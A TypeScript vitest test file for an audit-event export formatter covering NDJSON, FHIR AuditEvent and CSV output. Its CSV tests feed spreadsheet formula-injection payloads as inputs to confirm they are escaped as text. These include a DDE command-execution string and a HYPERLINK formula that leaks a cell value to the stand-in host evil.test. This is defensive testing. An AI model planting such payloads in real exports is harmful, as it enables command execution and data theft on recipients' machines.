/** What an export looks like, and what a spreadsheet can be made to do with it: nothing. */
import { describe, expect, test } from 'vitest';
import { headOf, lineOf } from '../../../lambdas/event-export/export-format.ts';

const ISSUER = 'https://auth.clinic.test';
const event = (metadata: Record<string, unknown>, actorId = 'key_1') => ({
  id: 'evt_01JD0000000000000000000000',
  event: 'user.created',
  created_at: '2026-03-01T12:00:00.000Z',
  data: {
    organization_id: null,
    user_id: 'user_1',
    actor_type: 'api_key',
    actor_id: actorId,
    target_type: 'user',
    target_id: 'user_1',
    metadata,
  },
});

/** RFC 4180, read back. */
function cells(text: string): string[] {
  return [...text.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map(([, inner = '']) => inner.replaceAll('""', '"'));
}

describe('NDJSON', () => {
  test('is what the API answers, one event a line', () => {
    const one = event({ outcome: 'success', subjects: { user_1: { name: 'Ada\nLovelace' } } });
    const line = lineOf('ndjson', one, ISSUER);
    expect(line.endsWith('\n')).toBe(true);
    expect(line.trimEnd()).not.toContain('\n');
    expect(JSON.parse(line)).toEqual(one);
    expect(headOf('ndjson')).toBe('');
  });
});

describe('FHIR', () => {
  test('is an AuditEvent a line', () => {
    const line = lineOf('fhir', event({ outcome: 'success', note: 'of two\nlines' }), ISSUER);
    expect(line.trimEnd()).not.toContain('\n');
    expect(JSON.parse(line)).toMatchObject({ resourceType: 'AuditEvent', subtype: [{}, { code: 'user.created' }] });
    expect(headOf('fhir')).toBe('');
  });
});

describe('CSV', () => {
  test('has a column for each member, and the rest as JSON in the last', () => {
    const metadata = { outcome: 'success', request_id: 'req_1', ip: '192.0.2.7', via: 'api', reason: undefined };
    const head = cells(headOf('csv'));
    const row = cells(lineOf('csv', event(metadata), ISSUER));
    expect(row).toHaveLength(head.length);
    expect(Object.fromEntries(head.map((name, i) => [name, row[i]]))).toMatchObject({
      id: 'evt_01JD0000000000000000000000',
      organization_id: '',
      actor_id: 'key_1',
      outcome: 'success',
      reason: '',
      ip: '192.0.2.7',
      metadata: '{"via":"api"}',
    });
  });

  test('keeps quotes, commas and line feeds inside their cell', () => {
    const agent = 'a "quoted", agent\r\nof two lines';
    const text = lineOf('csv', event({ user_agent: agent }), ISSUER);
    expect(cells(text)[14]).toBe(agent);
    expect(cells(text)).toHaveLength(16);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\0=1',
    '|calc',
    '%0A',
    '＝1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1)',
  ])('shows %j as text', (text) => {
    const row = cells(lineOf('csv', event({ user_agent: text }, text), ISSUER));
    for (const index of [6, 14]) expect(row[index]).toBe(`'${text}`);
  });

  test('leaves alone what begins no formula', () => {
    for (const text of ['Mozilla/5.0 (X11; Linux)', 'a=b', '192.0.2.7', '2026-03-01', 'user@example.org'])
      expect(cells(lineOf('csv', event({ user_agent: text }), ISSUER))[14]).toBe(text);
  });
});
